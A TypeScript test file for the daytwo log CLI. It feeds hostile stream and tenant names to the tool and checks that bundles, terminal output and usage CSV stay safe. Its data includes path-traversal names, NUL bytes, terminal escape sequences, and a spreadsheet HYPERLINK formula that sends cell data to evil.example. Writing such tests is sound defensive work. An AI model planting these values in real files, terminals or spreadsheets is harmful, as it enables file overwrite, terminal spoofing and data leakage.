import { test } from 'node:test'
import assert from 'node:assert/strict'
import { execFileSync, spawnSync } from 'node:child_process'
import { mkdirSync, readdirSync, readFileSync, lstatSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { join, relative, sep } from 'node:path'
import { encodeBatch, NDJSON } from '../../core/wire.js'
import type { StreamBatch } from '../../core/record.js'
import { safeComponent } from '../../cli/safe-name.js'
import { runCli } from '../helpers/bundle.js'
import { freePort, startDaytwo, tempDir, waitFor, type DaytwoProcess } from '../helpers/daytwo-process.js'
import { storedMessages } from '../helpers/faults.js'
import { cliPath } from '../helpers/repo.js'

// Issue 14, items 3 and 6: names chosen by whoever ships logs (a forwarder's tags, a syslog
// sender's structured data) reach the operator's disk and terminal through `logs fetch` and
// `logs usage`. A forwarder posts streams with hostile job/index/process/file names over real
// HTTP with its token, a syslog sender names hostile ones through `daytwo@…` structured data
// on a raw TCP connection; then the CLI is run as a user runs it, and its bundle extracted
// with GNU tar and with Python's tarfile, its bytes on stdout and stderr read back.

const FORWARDER = 'names-forwarder-token'
const OPERATOR = 'names-operator-token'
const ESC = '\u001b'
const NOW_NS = BigInt(Date.now()) * 1_000_000n

/** Hostile identities: each one stream of one line. (No two map to one bundle file.) */
const HOSTILE: Array<{ job: string, index: string, process: string, path: string }> = [
  { job: '..', index: '..', process: '..', path: '/var/log/..' },
  { job: 'j2', index: '0/..', process: 'p', path: '/var/log/x/../../authorized_keys' },
  { job: '../../../../tmp/escaped', index: '0', process: '/etc', path: 'C:\\logs\\..\\..\\evil.log' },
  { job: 'nul\u0000job', index: '0', process: 'p\u0000/../x', path: '/l\u0000og' },
  { job: '.', index: '', process: '...', path: '' },
  { job: `${ESC}]0;pwned\u0007`, index: '0', process: `${ESC}[2J`, path: `/log/${ESC}[31mred.log` },
  { job: 'x'.repeat(1000), index: 'i'.repeat(900), process: 'é'.repeat(400), path: '/' + '%'.repeat(600) },
  { job: 'tab\tnl\ncr\r', index: '\u009b1m', process: 'del\u007f', path: '/a\\b' }
]
/** Tenants named to fool a spreadsheet (usage CSV), given by the collector's mapping file. */
const ORGS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', '\tx', '\rcr', `${ESC}]0;org-title\u0007`]

function line (i: number): string {
  return `line ${i} with ${ESC}[2J${ESC}]0;title\u0007 inside`
}

async function post (url: string, batches: StreamBatch[]): Promise<void> {
  const res = await fetch(`${url}/api/v1/ingest`, { method: 'POST', headers: { authorization: `Bearer ${FORWARDER}`, 'content-type': NDJSON }, body: encodeBatch(batches) })
  assert.equal(res.status, 200, await res.text())
}

async function syslogSend (port: number, frames: string[]): Promise<void> {
  const s = connect(port, '127.0.0.1')
  await new Promise<void>((resolve, reject) => { s.once('connect', resolve); s.once('error', reject) })
  s.end(frames.join(''))
  await new Promise((resolve) => s.once('close', resolve))
}

/** An RFC 5424 SD-PARAM value: `"`, `\` and `]` escaped. */
const sdValue = (v: string) => v.replace(/["\\\]]/g, (c) => '\\' + c)

/** Every file and folder below `root`, as paths relative to it. */
function walk (root: string): Array<{ rel: string, file: boolean }> {
  const out: Array<{ rel: string, file: boolean }> = []
  const visit = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = join(d, name)
      const st = lstatSync(p)
      out.push({ rel: relative(root, p), file: st.isFile() })
      if (st.isDirectory()) visit(p)
    }
  }
  visit(root)
  return out
}

const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/

interface Setup { d: DaytwoProcess, env: NodeJS.ProcessEnv, tmp: string, lines: string[] }

async function setup (t: { after: (fn: () => unknown) => void }): Promise<Setup> {
  const tmp = tempDir('daytwo-names-')
  const tcpPort = await freePort()
  const mappingFile = join(tmp.path, 'tenants.json')
  writeFileSync(mappingFile, JSON.stringify({ rules: ORGS.map((org, i) => ({ match: { deployment: 'hostile', job: `csv-${i}` }, org, app: org })) }))
  const d = await startDaytwo('all', {
    dataDir: join(tmp.path, 'data'),
    logLevel: 'error',
    forwarder: { podLogRoot: '', containerLogRoot: '', boshLogRoot: '', port: 0, syslog: { tcpPort } },
    collector: { port: 0, tokens: [FORWARDER], tenants: { mappingFile } },
    query: { port: 0, tokens: [OPERATOR] }
  }, tmp.path)
  t.after(async () => { await d.kill(); tmp.cleanup() })
  const lines: string[] = []
  const batches: StreamBatch[] = HOSTILE.map((h, i) => {
    lines.push(line(i))
    return { stream: { id: `hostile-${i}`, source: 'file', node: 'n1', deployment: 'hostile', ...h }, entries: [[String(NOW_NS + BigInt(i)), 0, line(i), 'stdout']] }
  })
  ORGS.forEach((_, i) => batches.push({ stream: { id: `csv-${i}`, source: 'file', node: 'n1', deployment: 'hostile', job: `csv-${i}`, index: '0', process: 'p', path: '/csv.log' }, entries: [[String(NOW_NS), 0, `csv ${i}`, 'stdout']] }))
  await post(d.urls.collector!, batches)
  // A syslog sender on this host names its identity through structured data.
  const sd = (job: string, index: string, process: string) => `[daytwo@47450 deployment="hostile" job="${sdValue(job)}" index="${sdValue(index)}" process="${sdValue(process)}"]`
  const frames = [['../../syslog-escape', '.', '..'], ['..', '..', 'sys/../..'], [`sys${ESC}[2J`, '0', '\\..\\..']].map(([j, x, p], i) => {
    const msg = `syslog ${i} ${ESC}[2J`
    lines.push(msg)
    return `<14>1 2026-12-02T05:00:0${i}Z sender app - - ${sd(j!, x!, p!)} ${msg}\n`
  })
  await syslogSend(tcpPort, frames)
  const want = lines.length + ORGS.length
  assert.ok(await waitFor(async () => (await storedMessages(d.urls.query!, OPERATOR, 'hostile')).length >= want, 30_000), 'every line stored')
  return { d, env: { DAYTWO_QUERY_URL: d.urls.query!, DAYTWO_TOKEN: OPERATOR }, tmp: tmp.path, lines }
}

test('hostile names from a forwarder and a syslog sender: bundles extract inside the target, the terminal and spreadsheets see no controls', async (t) => {
  const s = await setup(t)

  await t.test('logs fetch: every member stays inside the folder GNU tar and Python tarfile extract into', () => {
    const out = join(s.tmp, 'out')
    mkdirSync(out)
    const r = runCli(['fetch', 'hostile', '--dir', out], s.env)
    assert.equal(r.status, 0, r.stderr)
    const tgz = r.stdout.trim()
    const members = execFileSync('tar', ['tzf', tgz], { encoding: 'utf8' }).split('\n').filter(Boolean)
    for (const m of members) {
      assert.ok(!m.startsWith('/'), `absolute member ${JSON.stringify(m)}`)
      assert.ok(!m.split('/').some((c) => /^\.+$/.test(c)), `member with a dot-only part ${JSON.stringify(m)}`)
      assert.ok(!CONTROL.test(m) && !m.includes('\\'), `member with a control character or backslash ${JSON.stringify(m)}`)
    }
    const want = [...s.lines, ...ORGS.map((_, i) => `csv ${i}`)].map((l) => l + '\n').sort()
    const extractors: Array<[string, (into: string) => void]> = [
      ['GNU tar', (into) => execFileSync('tar', ['xzf', tgz, '-C', into])],
      ['Python tarfile', (into) => {
        // extractall as older Pythons do it, with no member filter: only the names protect.
        const py = 'import sys, tarfile\nt = tarfile.open(sys.argv[1])\nkw = {"filter": "fully_trusted"} if hasattr(tarfile, "fully_trusted_filter") else {}\nt.extractall(sys.argv[2], **kw)\n'
        const p = spawnSync('python3', ['-c', py, tgz, into], { encoding: 'utf8' })
        assert.equal(p.status, 0, p.stderr)
      }]
    ]
    for (const [name, extract] of extractors) {
      const outer = join(s.tmp, `x-${name.replace(/\W/g, '')}`)
      const into = join(outer, 'inner', 'target')
      mkdirSync(into, { recursive: true })
      extract(into)
      const all = walk(outer)
      const outside = all.filter((e) => e.rel !== 'inner' && e.rel !== join('inner', 'target') && !e.rel.startsWith(join('inner', 'target') + sep))
      assert.deepEqual(outside.map((e) => e.rel), [], `${name} wrote outside the target`)
      const files = walk(into).filter((e) => e.file)
      const got = files.map((f) => readFileSync(join(into, f.rel), 'utf8')).sort()
      assert.deepEqual(got, want, `${name}: one file per stream, each with its line`)
    }
  })

  await t.test('names are percent-encoded and decode back', () => {
    for (const h of HOSTILE) {
      for (const name of [h.job, h.process]) {
        const c = safeComponent(name)
        if (c.includes('~')) continue // cut and hashed: too long to keep whole
        assert.ok(!/[/\\\u0000-\u001f]/.test(c) && !/^\.*$/.test(c), JSON.stringify(c))
        if (name !== '') assert.equal(decodeURIComponent(c), name)
      }
    }
  })

  await t.test('logs fetch --format text: names in the prefix escaped; piped lines byte for byte', () => {
    const r = runCli(['fetch', 'hostile', '--format', 'text'], s.env)
    assert.equal(r.status, 0, r.stderr)
    const out = r.stdout.split('\n').filter(Boolean)
    assert.equal(out.length, s.lines.length + ORGS.length)
    for (const l of out) {
      const text = s.lines.find((x) => l.endsWith(': ' + x)) ?? l.slice(l.lastIndexOf(': csv ') + 2)
      const prefix = l.slice(0, l.length - text.length)
      assert.ok(!CONTROL.test(prefix), `raw control character in the prefix ${JSON.stringify(prefix)}`)
    }
    assert.ok(r.stdout.includes('\\x1b]0;pwned\\x07/0 \\x1b[2J/\\x1b[31mred.log: '), 'the escape sequences are shown, escaped')
    for (const l of s.lines) assert.ok(r.stdout.includes(l), 'lines to a pipe are as written')
  })

  await t.test('logs fetch --format text on a terminal: lines escaped too', () => {
    // util-linux `script` gives the CLI a pseudo-terminal as stdout, as a user's shell would.
    const cmd = [process.execPath, cliPath(), 'fetch', 'hostile', '--format', 'text', '--no-prefix'].map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(' ')
    const r = spawnSync('script', ['-qec', cmd, '/dev/null'], { env: { ...process.env, ...s.env }, encoding: 'latin1' })
    assert.equal(r.status, 0, r.stderr)
    assert.ok(!r.stdout.includes(ESC) && !r.stdout.includes('\u0007'), `raw escape sequences reached the terminal: ${JSON.stringify(r.stdout.slice(0, 300))}`)
    assert.ok(r.stdout.includes('line 0 with \\x1b[2J\\x1b]0;title\\x07 inside'), r.stdout.slice(0, 300))
  })

  await t.test('an unknown job: "Known jobs" lists the names escaped', () => {
    const r = runCli(['fetch', 'hostile/nosuch'], s.env)
    assert.equal(r.status, 1)
    assert.match(r.stderr, /Known jobs:/)
    assert.ok(!CONTROL.test(r.stderr.replace(/\n/g, '')), `raw control character on stderr: ${JSON.stringify(r.stderr.slice(0, 400))}`)
    assert.ok(r.stderr.includes('hostile/\\x1b]0;pwned\\x07'), r.stderr)
    assert.ok(r.stderr.includes('hostile/nul\\x00job'), r.stderr)
  })

  await t.test('logs usage --format csv: formula cells neutralised with a quote, still valid CSV', () => {
    const r = runCli(['usage', '--format', 'csv', '--by', 'app', '--from', '0'], s.env)
    assert.equal(r.status, 0, r.stderr)
    // Python's csv module reads it as a spreadsheet would import it.
    const p = spawnSync('python3', ['-c', 'import csv, sys, json; print(json.dumps(list(csv.reader(sys.stdin, strict=True))))'], { input: r.stdout, encoding: 'utf8' })
    assert.equal(p.status, 0, p.stderr)
    const rows = JSON.parse(p.stdout) as string[][]
    assert.deepEqual(rows[0]!.slice(0, 2), ['org', 'app'])
    for (const org of ORGS) {
      const row = rows.find((x) => x[0]!.endsWith(org) && x[0]!.length <= org.length + 1)
      assert.ok(row, `a row for ${JSON.stringify(org)} in ${JSON.stringify(rows)}`)
      for (const cell of row.slice(0, 2)) {
        assert.ok(!/^[=+\-@\t\r]/.test(cell), `formula cell ${JSON.stringify(cell)}`)
        if (/^[=+\-@\t\r]/.test(org)) assert.equal(cell, "'" + org)
        else assert.equal(cell, org)
      }
      assert.equal(row[2], '1', 'the numbers stay numbers')
    }
  })

  await t.test('logs usage (table): org names escaped', () => {
    const r = runCli(['usage', '--by', 'app', '--from', '0'], s.env)
    assert.equal(r.status, 0, r.stderr)
    assert.ok(!CONTROL.test(r.stdout.replace(/\n/g, '')), `raw control character in the table: ${JSON.stringify(r.stdout)}`)
    assert.ok(r.stdout.includes('\\x1b]0;org-title\\x07'), r.stdout)
  })
})
